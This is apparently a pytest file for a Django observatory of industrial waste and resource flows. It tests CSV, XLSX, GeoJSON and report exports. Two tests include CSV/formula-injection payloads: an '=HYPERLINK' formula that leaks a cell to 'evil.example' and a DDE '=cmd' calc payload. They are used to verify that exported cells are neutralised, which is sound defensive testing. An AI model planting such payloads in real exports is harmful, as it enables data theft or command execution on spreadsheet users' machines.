"""Exports and the printable report, through the command handlers an operator runs."""

import argparse
import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from openpyxl import load_workbook
from shapely.geometry import shape

from boucle.observatory import commands

pytestmark = pytest.mark.django_db
MEL = "200093201"


def _run(*argv):
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers()
    commands.register(sub)
    args = parser.parse_args(list(argv))
    return args.func(args)


def test_observatory_export_indicators_csv_is_long_and_versioned(obs_world, tmp_path):
    out = tmp_path / "ind.csv"
    assert _run("export", "--territory", "region:32", "--what", "indicators", "--format", "csv",
                "--output", str(out)) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert {r["schema_version"] for r in rows} == {"4.1"}
    region = [r for r in rows if r["territory_level"] == "region" and r["indicator"] == "declared_quantity"
              and r["kind"] == "material" and r["direction"] == "offer" and not r["material_class"]]
    assert float(region[0]["value"]) == 1200 + 5000 + 70000 + 300
    epcis = {r["territory_code"] for r in rows if r["territory_level"] == "epci"}
    assert MEL in epcis and len(epcis) > 50  # every EPCI of the region, declared or not


def test_observatory_export_xlsx_opens(obs_world, tmp_path):
    out = tmp_path / "ind.xlsx"
    assert _run("export", "--territory", f"epci:{MEL}", "--format", "xlsx", "--output", str(out)) == 0
    wb = load_workbook(out)
    assert wb["metadata"]["B1"].value == "4.1"
    header = [c.value for c in wb["indicators"][1]]
    assert header[0] == "schema_version" and "value" in header
    assert wb["indicators"].max_row > 10


def test_observatory_export_geojson_has_valid_geometry_per_unit(obs_world, tmp_path):
    out = tmp_path / "ind.geojson"
    assert _run("export", "--territory", "departement:62", "--format", "geojson", "--output", str(out)) == 0
    doc = json.loads(out.read_text())
    assert doc["schema_version"] == "4.1" and doc["type"] == "FeatureCollection"
    codes = {f["properties"]["code"] for f in doc["features"]}
    assert "200033579" in codes  # Arras
    for f in doc["features"]:
        assert shape(f["geometry"]).is_valid and not shape(f["geometry"]).is_empty
    arras = next(f for f in doc["features"] if f["properties"]["code"] == "200033579")
    assert arras["properties"]["needs_m3"] == 15000


@pytest.mark.parametrize("what", ["flows", "synergies"])
def test_observatory_public_record_export_is_refused(obs_world, tmp_path, what):
    out = tmp_path / "x.csv"
    assert _run("export", "--territory", "region:32", "--what", what, "--public", "--output", str(out)) == 2
    assert not out.exists()


def test_observatory_facilitator_flow_and_synergy_exports(obs_world, tmp_path):
    out = tmp_path / "flows.csv"
    assert _run("export", "--territory", f"epci:{MEL}", "--what", "flows", "--output", str(out)) == 0
    labels = {r["label"] for r in csv.DictReader(io.StringIO(out.read_text()))}
    assert "Sables de fonderie" in labels and "Laitier" not in labels  # Dunkerque is not in the MEL
    out = tmp_path / "syn.geojson"
    assert _run("export", "--territory", "region:32", "--what", "synergies", "--format", "geojson",
                "--output", str(out)) == 0
    doc = json.loads(out.read_text())
    assert len(doc["features"]) == 4
    assert all(shape(f["geometry"]).is_valid and f["geometry"]["type"] in ("LineString", "Point") for f in doc["features"])
    water = next(f for f in doc["features"] if f["properties"]["material_class"] == "process_water")
    assert shape(water["geometry"]).length == pytest.approx(0.855, abs=0.01)  # Dunkerque → Arras, degrees


def test_observatory_report_has_every_section_with_non_empty_svgs(obs_world, tmp_path):
    out = tmp_path / "report.html"
    assert _run("report", "--territory", "region:32", "--format", "html", "--output", str(out)) == 0
    html = out.read_text()
    for section in ("key-figures", "funnel", "sankey", "map", "top-synergies", "method"):
        assert f'id="{section}"' in html, section
    ns = "{http://www.w3.org/2000/svg}"
    for section, shape_tag in (("funnel", "rect"), ("sankey", "path"), ("map", "path")):
        chunk = html.split(f'id="{section}"', 1)[1]
        svg_text = chunk[chunk.index("<svg"):chunk.index("</svg>") + 6]
        root = ET.fromstring(svg_text)
        assert len(list(root.iter(ns + shape_tag))) > 0, section
    assert "Fonderie Lille A" in html  # the top synergies are named: a facilitator's document
    assert "Usine Metz" not in html


def test_observatory_report_pdf_through_chromium(obs_world, tmp_path):
    from boucle.observatory.report import find_chromium

    if find_chromium() is None:
        pytest.skip("no Chromium: the PDF report is optional")
    out = tmp_path / "report.pdf"
    assert _run("report", "--territory", f"epci:{MEL}", "--format", "pdf", "--output", str(out)) == 0
    assert out.read_bytes()[:5] == b"%PDF-" and out.stat().st_size > 5000


def test_observatory_report_pdf_without_chromium_says_why(obs_world, tmp_path, monkeypatch, capsys):
    from boucle.observatory import report

    monkeypatch.setattr(report, "find_chromium", lambda: None)
    assert _run("report", "--territory", f"epci:{MEL}", "--format", "pdf", "--output", str(tmp_path / "r.pdf")) == 3
    assert "Chromium" in capsys.readouterr().err


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)",
            "\tTab", "\rRetour"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_formula_text_and_keep_numbers(obs_world, tmp_path, fmt):
    """Formula-like labels, names and ids are stored as written, and leave as text with a leading '."""
    from boucle.testing import make_flow

    site = obs_world.sites["lille_a"]
    site.name = FORMULAS[3]
    site.save()
    for i, label in enumerate(FORMULAS):
        make_flow(site, label, quantity=10 + i, unit="t", material_class="foundry_sand")
    out = tmp_path / f"flows.{fmt}"
    assert _run("export", "--territory", f"epci:{MEL}", "--what", "flows", "--format", fmt, "--output", str(out)) == 0
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
        cells = {r["label"]: r for r in rows}
        quantities = [r["quantity_per_year"] for r in rows]
    else:
        sheet = load_workbook(out)["flows"]
        header = [c.value for c in sheet[1]]
        rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]  # no formula cell at all
        cells = {r["label"].value: {k: c.value for k, c in r.items()} for r in rows}
        quantities = [r["quantity_per_year"].value for r in rows]
        assert all(isinstance(q, (int, float)) for q in quantities if q is not None)  # numbers stay numbers
    for label in FORMULAS:
        assert "'" + label in cells, label
    assert all(r["site_name"] == "'" + FORMULAS[3] for r in cells.values() if r["site_id"] == site.site_id)
    assert "Sables de fonderie" in cells  # ordinary text untouched


def test_call_answers_export_neutralises_formulas_through_the_same_writer():
    from boucle.projects import export

    table = [["answer_id", "company"], [1, "=cmd|' /C calc'!A0"], [2, "-1"], [3, -1], [4, "\t=1+1"], [5, "\r=2+2"]]
    text = export.to_csv(table).decode("utf-8-sig")
    assert "'=cmd|" in text and ";'-1" in text and "3;-1" in text
    assert "4;'\t=1+1" in text and '5;"\'\r=2+2"' in text  # tab and carriage return too (the old helper missed them)
    sheet = load_workbook(io.BytesIO(export.to_xlsx(table)))["answers"]
    assert [c.value for c in sheet["B"]][1:] == ["'=cmd|' /C calc'!A0", "'-1", -1, "'\t=1+1", "'\r=2+2"]


def test_flow_export_keeps_its_columns_and_says_which_flows_are_hazardous(tmp_path):
    from boucle.observatory.exports import FLOW_COLUMNS
    from boucle.testing import make_flow, make_site

    site = make_site("Plateforme", commune="59350")
    make_flow(site, "Déchets dangereux (total déclaré iREP 2020)", quantity=12, unit="t", hazardous=True)
    make_flow(site, "Boues d'hydroxydes", ewc="110109", quantity=5, unit="t")  # 11 01 09* in the list
    make_flow(site, "Plaques amiantées", quantity=3, unit="t", material_class="asbestos_waste")
    make_flow(site, "Palettes en bois", quantity=40, unit="t", material_class="wood_untreated")
    out = tmp_path / "flows.csv"
    assert _run("export", "--territory", "commune:59350", "--what", "flows", "--output", str(out)) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert list(rows[0]) == FLOW_COLUMNS and FLOW_COLUMNS[:18] == [
        "flow_id", "direction", "kind", "label", "material_class", "ewc", "quantity_per_year", "unit", "illustrative",
        "confidential", "site_id", "site_name", "company", "naf", "commune", "epci", "lat", "lon"]
    hazardous = {r["label"]: r["hazardous"] for r in rows}
    assert hazardous == {"Déchets dangereux (total déclaré iREP 2020)": "True", "Boues d'hydroxydes": "True",
                         "Plaques amiantées": "True", "Palettes en bois": "False"}



def _page_download(client, path, language=None, **params):
    if language:
        client.post("/i18n/setlang/", {"language": language, "next": "/"})
    response = client.get(path, params)
    assert response.status_code == 200, response.content[:300]
    return response.content


def test_a_download_from_the_page_reads_in_french_and_the_keys_stay_one_click_away(obs_world, client):
    from boucle.observatory.exports import INDICATOR_COLUMNS

    client.force_login(obs_world.users["fac_region"])
    body = _page_download(client, "/observatoire/territoire/region/32/export/indicators.csv").decode("utf-8")
    assert body.startswith("\ufeff")  # a French spreadsheet opens it as UTF-8, in columns
    rows = list(csv.DictReader(io.StringIO(body[1:]), delimiter=";"))
    assert list(rows[0])[:6] == ["version du schéma", "niveau du territoire", "code du territoire", "territoire",
                                 "année", "indicateur"]
    sand = [r for r in rows if r["niveau du territoire"] == "région" and r["indicateur"] == "quantité déclarée par an"
            and r["matière"] == "Sables de fonderie" and r["sens"] == "offre"]
    assert [r["valeur"] for r in sand] == ["1200"]
    share = next(r["valeur"] for r in rows if r["indicateur"] == "part des besoins avec une source à moins de 200 km"
                 and r["niveau du territoire"] == "région")
    assert "," in share and "." not in share  # 0,5: a French spreadsheet reads a number
    assert {r["base du chiffre"] for r in rows} >= {"potentiel (meilleure répartition des suggestions ouvertes)", "vérifié (mesuré)"}
    assert {r["statut de la synergie"] for r in rows} >= {"en fonctionnement", "en discussion"}
    assert not {"offer", "need", "declared_quantity", "foundry_sand", "region", "running"} & {
        v for r in rows for v in r.values()}
    keyed = _page_download(client, "/observatoire/territoire/region/32/export/indicators.csv", cles="1").decode()
    assert keyed.split("\n", 1)[0].strip() == ",".join(INDICATOR_COLUMNS)  # the open-data schema, as `boucle export`


def test_a_synergy_download_in_english_and_its_xlsx_pairs_each_header_with_its_key(obs_world, client):
    from boucle.observatory.exports import SYNERGY_COLUMNS

    client.force_login(obs_world.users["fac_region"])
    book = load_workbook(io.BytesIO(_page_download(client, "/observatoire/territoire/region/32/export/synergies.xlsx",
                                                   language="en")))
    assert book.sheetnames == ["synergies", "columns", "metadata"]
    sheet = book["synergies"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
    assert header[:3] == ["synergy no.", "synergy status", "material"]
    assert {r["synergy status"] for r in rows} == {"running", "suggested", "in discussion", "abandoned"}
    assert {r["material"] for r in rows} >= {"Spent foundry sand", "Coal fly ash"}
    pairs = {row[0].value: row[1].value for row in book["columns"].iter_rows(min_row=2)}
    assert [pairs[h] for h in header] == SYNERGY_COLUMNS
    body = _page_download(client, "/observatoire/territoire/region/32/export/synergies.csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(body[1:])))  # English: commas, and a point before decimals
    assert list(rows[0])[:2] == ["synergy no.", "synergy status"]
    assert "10.0" not in {r["distance (km)"] for r in rows} and "95" in {r["distance (km)"] for r in rows}
    assert {r["relevance (0 to 1)"] for r in rows} == {"0.8"}


def test_the_synergy_download_names_the_relevance_as_the_pages_do(obs_world, client):
    """The synergy page reads « Pertinence 63 % »; the same figure's column read « score » (0,630953) in the French
    file: it is the relevance, from 0 to 1."""
    client.force_login(obs_world.users["fac_region"])
    body = _page_download(client, "/observatoire/territoire/region/32/export/synergies.csv").decode("utf-8")
    header = body[1:].split("\n", 1)[0].strip().split(";")
    assert "pertinence (0 à 1)" in header and "score" not in header, header


def test_a_downloaded_csv_shows_the_declared_digits_not_the_float_noise_of_a_sum():
    from boucle.observatory.columns import csv_number

    # 12 830 t summed from several declarations reads 12830.000000000004 in binary floating point
    assert csv_number(sum([0.1] * 3), True) == "0,3"
    assert csv_number(12830.000000000004, True) == "12830"
    assert csv_number(1308289.869, True) == "1308289,869" and csv_number(2.5, False) == "2.5"


def test_a_readable_download_shows_no_schema_key_and_names_site_identifiers(obs_world, client):
    """reader7: the French critical raw materials file opened on a column « code » reading « copper », « lithium »
    beside « Cuivre »; the synergy file's « site de l'offre » held « irep:7000725 », not a site's name."""
    from boucle.observatory.exports import SYNERGY_COLUMNS
    from boucle.testing import make_flow

    make_flow(obs_world.sites["lille_a"], "Batteries au plomb usagées", quantity=50, unit="t", ewc="160601",
              material_class="batteries_lead_acid")
    client.force_login(obs_world.users["fac_region"])
    body = _page_download(client, "/observatoire/territoire/region/32/export/critical.csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(body[1:]), delimiter=";"))
    assert rows and "Antimoine" in {r["matière première critique"] for r in rows}
    assert "code" not in rows[0] and "antimony" not in body
    keyed = _page_download(client, "/observatoire/territoire/region/32/export/critical.csv", cles="1").decode()
    assert "antimony" in keyed  # the keys stay in the file for scripts
    book = load_workbook(io.BytesIO(_page_download(client, "/observatoire/territoire/region/32/export/critical.xlsx")))
    assert "antimony" not in {c.value for row in book.worksheets[0].iter_rows() for c in row}
    body = _page_download(client, "/observatoire/territoire/region/32/export/synergies.csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(body[1:]), delimiter=";"))
    site_ids = {s.site_id for s in obs_world.sites.values()}
    assert {r["identifiant du site de l'offre"] for r in rows} <= site_ids | {""}
    assert "site de l'offre" not in rows[0] and len(rows[0]) == len(SYNERGY_COLUMNS)
